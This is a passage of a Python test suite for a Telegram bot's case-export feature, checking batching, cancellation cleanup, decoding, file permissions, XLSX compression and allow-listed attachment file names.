    assert done == list(range(250, 2001, 250))
    assert any(n < 2000 for n in served)  # other queries ran while the export was going on
    rows = _read_csv(tmp_path / "big.csv")
    assert len(rows) == result.rows
    assert len({r["case_number"] for r in rows}) == 2000

    result = await export_cases(db, FORM, fmt="xlsx", output=tmp_path / "big.xlsx", batch=400)

    # Cancelled half-way (staff pressed cancel, the bot stops): nothing is left behind.
    started = asyncio.Event()
    cancelled = asyncio.create_task(export_cases(
        db, FORM, fmt="xlsx", output=tmp_path / "cancelled.xlsx", batch=100,
        progress=lambda n: started.set()))
    await started.wait()
    cancelled.cancel()
    with pytest.raises(asyncio.CancelledError):
        await cancelled
    await db.close()
    assert [n for n in _names(tmp_path) if not n.startswith("big.sqlite3")] == [
        "big.csv", "big.xlsx"]
    with zipfile.ZipFile(tmp_path / "big.xlsx") as z, z.open("xl/worksheets/sheet1.xml") as f:
        xml = f.read()
    assert xml.count(b"<row ") == result.rows + 1
    last = get_column_letter(len(column_names(FORM)))
    assert f'<autoFilter ref="A1:{last}{result.rows + 1}"/>'.encode() in xml


async def test_a_failed_export_leaves_no_file(stored: Stored, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"previous export")
    calls = 0

    def decode(data: bytes) -> bytes:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise ValueError("bad key")
        return data

    formats: tuple[ex.ExportFormat, ...] = ("csv", "xlsx", "jsonl")
    for fmt in formats:
        calls = 0
        with pytest.raises(ExportError) as err:
            await export_cases(stored.db, FORM, fmt=fmt, output=out, decode=decode)
        assert stored.numbers["A"] in str(err.value) or stored.numbers["B"] in str(err.value)
        assert "Нұрлан" not in str(err.value)
    assert out.read_bytes() == b"previous export"
    assert not _leftovers(tmp_path)
    with pytest.raises(ValueError, match="format"):
        await export_cases(stored.db, FORM, fmt="pdf", output=out)  # type: ignore[arg-type]


async def test_decode_is_applied_and_files_are_private(stored: Stored, tmp_path: Path) -> None:
    key = random.Random(1).randbytes(1)[0] | 1

    def xor(data: bytes) -> bytes:
        return bytes(b ^ key for b in data)

    for k, number in stored.numbers.items():
        sealed = xor(json.dumps(stored.data[k], ensure_ascii=False).encode())
        await stored.db.execute("UPDATE cases SET data = ? WHERE number = ?", (sealed, number))
    out = tmp_path / "sealed.jsonl"
    await export_cases(stored.db, FORM, fmt="jsonl", output=out, decode=xor)
    assert json.loads(out.read_bytes().splitlines()[0])["persons"][0]["story"] == STORY
    assert out.stat().st_mode & 0o777 == 0o600


async def test_xlsx_is_deflated_at_level_6_unless_the_caller_asks_for_speed(
        tmp_path: Path) -> None:
    """/export in Telegram uses the default (level 6: smaller, Telegram's 50 MB limit comes
    later); the CLI asks for level 1. Both files hold the same sheet."""
    path = tmp_path / "lv.sqlite3"
    await seed(path, 300)
    db = await Database.open(path)
    try:
        small, fast = tmp_path / "six.xlsx", tmp_path / "one.xlsx"
        await export_cases(db, FORM, fmt="xlsx", output=small)
        await export_cases(db, FORM, fmt="xlsx", output=fast, deflate_level=1)
    finally:
        await db.close()
    assert ex.DEFLATE_LEVEL == 6
    assert small.stat().st_size < fast.stat().st_size * 0.85
    with zipfile.ZipFile(small) as a, zipfile.ZipFile(fast) as b:
        assert a.read("xl/worksheets/sheet1.xml") == b.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(("item", "path", "name"), [
    ({"kind": "document", "file_unique_id": "U1", "name": "scan.PDF"}, None, "document-U1.pdf"),
    ({"kind": "document", "file_unique_id": "U1", "name": "a.docx"}, None, "document-U1.docx"),
    ({"kind": "document", "file_unique_id": "U1", "name": "run.exe"}, None, "document-U1.bin"),
    ({"kind": "document", "file_unique_id": "U1", "name": "x.lnk"}, None, "document-U1.bin"),
    ({"kind": "document", "file_unique_id": "U1", "name": "page.html"}, None, "document-U1.bin"),
    ({"kind": "document", "file_unique_id": "U1", "name": "m.docm"}, None, "document-U1.bin"),
    ({"kind": "document", "file_unique_id": "U1"}, "documents/file_3.hta", "document-U1.bin"),
    ({"kind": "document", "file_unique_id": "U1"}, None, "document-U1.bin"),
    ({"kind": "photo", "file_unique_id": "U/2"}, "photos/file_1.jpg", "photo-U_2.jpg"),
    ({"kind": "photo", "file_unique_id": "U2"}, None, "photo-U2.jpg"),
    ({"kind": "voice", "file_unique_id": "U3"}, "voice/file_9.oga", "voice-U3.oga"),
    ({"kind": "audio", "file_unique_id": "U4", "name": "song.flac"}, None, "audio-U4.bin"),
])
def test_downloaded_files_keep_only_allow_listed_extensions(
        item: dict[str, str], path: str | None, name: str) -> None:
    from bot.export.files import file_name

    assert file_name({"file_id": "F", **item}, path) == name


async def test_an_export_without_worker_processes_runs_in_this_one(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sandbox without working semaphores (no /dev/shm) cannot start the process pool:
    the export is encoded in this process instead, with the same result."""
    path = tmp_path / "nosem.sqlite3"
    await seed(path, 120)
    db = await Database.open(path)
    try:
        await export_cases(db, FORM, fmt="csv", output=tmp_path / "a.csv", workers=2, batch=20)

        def no_pool(*args: Any, **kwargs: Any) -> Any:
            raise OSError(38, "Function not implemented")

        monkeypatch.setattr(workers, "ProcessPoolExecutor", no_pool)
        result = await export_cases(db, FORM, fmt="csv", output=tmp_path / "b.csv", workers=2,
                                    batch=20)
    finally:
        await db.close()
    assert result.cases == 120
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
